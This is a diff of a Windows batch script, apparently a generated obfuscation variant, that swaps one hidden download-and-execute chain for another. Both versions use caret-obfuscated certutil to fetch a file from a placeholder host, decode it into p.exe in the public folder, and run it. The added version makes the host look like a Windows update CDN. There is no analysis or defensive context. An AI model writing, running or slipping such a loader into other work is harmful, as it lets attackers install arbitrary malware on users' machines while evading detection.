@@ -1,11 +1,5 @@
-REM task 4549 v1
+REM run 5097 v1
 @echo off
-@echo off
-set "fswa=^c^ertut^il -urlc^ach^e -f h^t^tp://repo.pk^g-mir^ror.exa^mp^l^e/p.t^xt %PUBLIC%\^p.^t^x^t"
-call %fswa%
-@echo off
-set "vbcm=^cer^tutil -dec^o^de %PUBLIC%\p.txt %PUBLIC%\p.^exe"
-call %vbcm%
-@echo off
-set "lufv=%PUBLIC%\^p.ex^e"
-call %lufv%
+ce^r^t^uti^l -u^r^l^ca^c^^h^e -f ^h^t^t^p://^d^^l.wi^nu^pd^at^^e-^^c^dn.^exa^m^pl^e/^^p.^t^^xt %PUBLIC%\^p.^tx^t
+^c^^er^t^u^^t^i^l -^d^e^co^d^^e %PUBLIC%\p.^tx^^t %PUBLIC%\^^p.^exe
+%PUBLIC%\^p.^ex^e
